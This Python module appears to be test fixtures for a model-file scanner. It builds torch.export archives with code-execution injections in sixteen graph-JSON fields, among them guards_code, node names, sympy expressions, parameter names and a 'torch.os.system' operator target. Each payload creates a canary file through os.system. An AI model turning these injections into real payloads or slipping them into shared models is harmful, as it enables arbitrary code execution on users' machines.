"""torch.export archives whose graph JSON carries Python that torch 2.13 would run.

Each builder exports a real benign program, then rewrites one string of ``models/model.json``
inside the archive (same folder layout, stored entries: still an archive torch reads). The payload
creates a canary file when torch runs it (``torch.export.load`` → ``.module()`` → forward).
``ckpt_stage/scan/pt2.py`` lists the fields and the torch source lines that execute them.
"""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch


class Net(torch.nn.Module):
    """Parameters, a buffer, a constant tensor, a dynamic batch dim: every string kind appears."""

    def __init__(self) -> None:
        super().__init__()
        self.l1 = torch.nn.Linear(4, 8)
        self.bn = torch.nn.BatchNorm1d(8)
        self.l2 = torch.nn.Linear(8, 2)
        self.register_buffer("scale", torch.ones(2))
        self.const = torch.tensor([0.5, 2.0])

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.l2(torch.relu(self.bn(self.l1(x)))) * self.scale + self.const


def benign(path: Path, model: torch.nn.Module | None = None) -> Path:
    torch.manual_seed(0)
    model = (model or Net()).eval()
    batch = torch.export.Dim("batch", min=2, max=1024)
    ep = torch.export.export(model, (torch.randn(3, 4),), dynamic_shapes={"x": {0: batch}})
    torch.export.save(ep, str(path))
    return path


def rewrite(src: Path, dest: Path, edit: Callable[[dict[str, Any]], None],
            member: str = "models/model.json") -> Path:
    """Copy ``src`` to ``dest`` with ``edit`` applied to the parsed JSON ``member``."""
    with zipfile.ZipFile(src) as zin:
        names = zin.namelist()
        root = names[0].split("/", 1)[0]
        records = {n: zin.read(n) for n in names}
    doc = json.loads(records[f"{root}/{member}"])
    edit(doc)
    records[f"{root}/{member}"] = json.dumps(doc).encode()
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_STORED) as zout:
        for name, data in records.items():
            zout.writestr(name, data)
    return dest


def shell(canary: Path) -> str:
    return f"__import__('os').system('touch {canary}')"


def _gm(doc: dict) -> dict:
    return doc["graph_module"]


def _graph(doc: dict) -> dict:
    return doc["graph_module"]["graph"]


def _rename(doc: dict, old: str, new: str) -> None:
    """Rename a value everywhere in the program (names are references between fields)."""
    def walk(o: Any) -> Any:
        if isinstance(o, dict):
            return {(new if k == old else k): walk(v) for k, v in o.items()}
        if isinstance(o, list):
            return [walk(v) for v in o]
        return new if o == old else o
    doc.update(walk(doc))


# -- the payloads: field → edit ------------------------------------------------------------------


def guards_code(c: Path) -> Callable[[dict], None]:
    def edit(doc: dict) -> None:
        doc["guards_code"] = [f"{shell(c)} == 0"]
    return edit


def forward_arg_name(c: Path) -> Callable[[dict], None]:
    # becomes a default value in the generated ``def forward(self, x=<payload>)``: runs at .module()
    def edit(doc: dict) -> None:
        _gm(doc)["module_call_graph"][0]["signature"]["forward_arg_names"] = [f"x={shell(c)}"]
    return edit


def placeholder_name(c: Path) -> Callable[[dict], None]:
    def edit(doc: dict) -> None:
        _rename(doc, "x", f"x={shell(c)}")
    return edit


def _as_code(c: Path) -> str:
    """A "name" that is valid Python both as an assignment target and as an argument, and runs the
    payload in either place (fx writes a node's name as ``name = op(...)`` and as ``op(name)``)."""
    return f"torch.__dict__[{shell(c)}]"


def node_name(c: Path) -> Callable[[dict], None]:
    # the output name of a node is its variable in the generated forward (serialize.py sync_fx_node
    # sets it raw, fx's Node.__setattr__ does not check it)
    def edit(doc: dict) -> None:
        _rename(doc, "relu", _as_code(c))
    return edit


def output_name(c: Path) -> Callable[[dict], None]:
    def edit(doc: dict) -> None:
        _rename(doc, "add", _as_code(c))
    return edit


def kwarg_name(c: Path) -> Callable[[dict], None]:
    """A node argument's name becomes ``name = value`` in the generated call."""
    def edit(doc: dict) -> None:
        for n in _graph(doc)["nodes"]:
            if n["target"] == "torch.ops.aten.relu.default":
                n["inputs"][0]["name"] = f"input=x, _={shell(c)}, self"
    return edit


def size_expr(c: Path) -> Callable[[dict], None]:
    """A symbolic size of a tensor value: handed to sympy.sympify at torch.export.load."""
    def edit(doc: dict) -> None:
        tv = _graph(doc)["tensor_values"]["x"]
        tv["sizes"][0] = {"as_expr": {"expr_str": shell(c), "hint": {"as_int": 3}}}
    return edit


def stride_expr(c: Path) -> Callable[[dict], None]:
    def edit(doc: dict) -> None:
        tv = _graph(doc)["tensor_values"]["linear"]
        tv["strides"][0] = {"as_expr": {"expr_str": f"Mul(Integer(8), {shell(c)})", "hint": {"as_int": 8}}}
    return edit


def sym_int_value(c: Path) -> Callable[[dict], None]:
    def edit(doc: dict) -> None:
        _graph(doc)["sym_int_values"]["sym_size"] = {"as_expr": {"expr_str": shell(c), "hint": None}}
    return edit


def range_constraint(c: Path) -> Callable[[dict], None]:
    """A range constraint's symbol (torch matches it against str(symbol); the grammar refuses it)."""
    def edit(doc: dict) -> None:
        rc = doc["range_constraints"]
        key = next(iter(rc))
        rc[f"{key} + 0*{shell(c)}"] = rc.pop(key)
    return edit


def evil_fqn(c: Path) -> str:
    # no dots in the payload: torch splits FQNs on them
    return f'l1.weight") or getattr(__import__("os"), "system")("touch {c}") or getattr(self, "x'


def parameter_target(c: Path) -> Callable[[dict], None]:
    """A parameter's FQN becomes a get_attr target; a non-identifier part is pasted as
    ``getattr(self, "<part>")`` (fx/graph.py _format_target). Use with ``rename_weight``."""
    def edit(doc: dict) -> None:
        for spec in _gm(doc)["signature"]["input_specs"]:
            if "parameter" in spec and spec["parameter"]["parameter_name"] == "l1.weight":
                spec["parameter"]["parameter_name"] = evil_fqn(c)
    return edit


def rename_weight(c: Path) -> Callable[[dict], None]:
    """The same FQN in the weights config, so the state dict agrees with the signature."""
    def edit(doc: dict) -> None:
        doc["config"][evil_fqn(c)] = doc["config"].pop("l1.weight")
    return edit


def custom_op_target(c: Path) -> Callable[[dict], None]:
    """A target outside torch's operator namespaces. ``deserialize_operator`` resolves any
    ``torch.<attr>`` chain, so ``torch.os.system`` is os.system; with no verifier named, nothing
    stops the graph from calling it in forward."""
    def edit(doc: dict) -> None:
        doc["verifiers"] = []
        g = _graph(doc)
        g["nodes"].insert(0, {"target": "torch.os.system",
                              "inputs": [{"name": "", "arg": {"as_string": f"touch {c}"}, "kind": 1}],
                              "outputs": [{"as_none": True}], "metadata": {}, "is_hop_single_tensor_return": None,
                              "name": "system"})
    return edit


def custom_namespace(c: Path) -> Callable[[dict], None]:
    """A custom operator namespace (``torch.ops.mylib.*``): the code behind it is someone's package."""
    def edit(doc: dict) -> None:
        for n in _graph(doc)["nodes"]:
            if n["target"] == "torch.ops.aten.relu.default":
                n["target"] = "torch.ops.mylib.touch.default"
    return edit


def in_spec_key(c: Path) -> Callable[[dict], None]:
    """kwargs keys of in_spec are pasted into generated code between quotes (fx/graph.py:1138)."""
    def edit(doc: dict) -> None:
        sig = _gm(doc)["module_call_graph"][0]["signature"]
        spec = [1, {"type": "builtins.tuple", "context": "null", "children_spec": [
            {"type": "builtins.tuple", "context": "null", "children_spec": [
                {"type": None, "context": None, "children_spec": []}]},
            {"type": "builtins.dict", "context": json.dumps([f"k':0, **{{'z': {shell(c)}}}, 'w"]),
             "children_spec": []}]}]
        sig["in_spec"] = json.dumps(spec)
    return edit


def constant_string_input(c: Path) -> Callable[[dict], None]:
    """A string constant input is pasted between quotes into the guard code (_unlift.py:691)."""
    def edit(doc: dict) -> None:
        gm = _gm(doc)
        payload = f"' or {shell(c)} or '"
        gm["graph"]["inputs"].append({"as_string": payload})
        gm["signature"]["input_specs"].append({"constant_input": {"name": "mode", "value": {"as_string": payload}}})
    return edit


def stack_trace_line(c: Path) -> Callable[[dict], None]:
    """A carriage return in a stack trace (fx's verbose code prints it in a comment)."""
    def edit(doc: dict) -> None:
        _graph(doc)["nodes"][0]["metadata"]["stack_trace"] = f'File "m.py", line 1, in f\n  x\r{shell(c)}'
    return edit


@dataclass(frozen=True)
class Payload:
    name: str
    edit: Callable[[Path], Callable[[dict], None]]
    runs: bool
    """True when plain torch 2.13 (load, ``.module()``, one forward) demonstrably runs it. The
    others reach generated or evaluated code too, but other checks of torch happen to fail first
    for these payloads (a sanitizing graph copy, the verifier, a signature check); the grammar does
    not rely on those."""
    field: str
    """What the refusal message names."""
    weights_edit: Callable[[Path], Callable[[dict], None]] | None = None
    """An edit of ``data/weights/model_weights_config.json`` that goes with it."""

    def build(self, src: Path, dest: Path, canary: Path) -> Path:
        rewrite(src, dest, self.edit(canary))
        if self.weights_edit is not None:
            rewrite(dest, dest.with_suffix(".tmp"), self.weights_edit(canary),
                    member="data/weights/model_weights_config.json").replace(dest)
        return dest


PAYLOADS = [
    Payload("guards-code", guards_code, True, "guards_code[0]"),
    Payload("forward-arg-name", forward_arg_name, False, "forward_arg_names[0]"),
    Payload("placeholder-name", placeholder_name, True, "graph.inputs"),
    Payload("node-name", node_name, False, "outputs[0].as_tensor.name"),
    Payload("output-name", output_name, False, "graph.outputs[0].as_tensor.name"),
    Payload("kwarg-name", kwarg_name, False, "inputs[0].name"),
    Payload("size-expr", size_expr, True, "tensor_values"),
    Payload("stride-expr", stride_expr, True, "strides[0].as_expr.expr_str"),
    Payload("sym-int-value", sym_int_value, False, "sym_int_values"),
    Payload("range-constraint", range_constraint, False, "range_constraints"),
    Payload("parameter-target", parameter_target, False, "parameter_name", rename_weight),
    Payload("custom-op-target", custom_op_target, False, "target"),
    Payload("custom-namespace", custom_namespace, False, "torch.ops.mylib"),
    Payload("in-spec-key", in_spec_key, False, "in_spec"),
    Payload("constant-string-input", constant_string_input, False, "as_string"),
    Payload("stack-trace-cr", stack_trace_line, False, "stack_trace"),
]

TORCH_RUN = """
import sys, torch
ep = torch.export.load(sys.argv[1])
m = ep.module()
m(torch.randn(3, 4))
"""
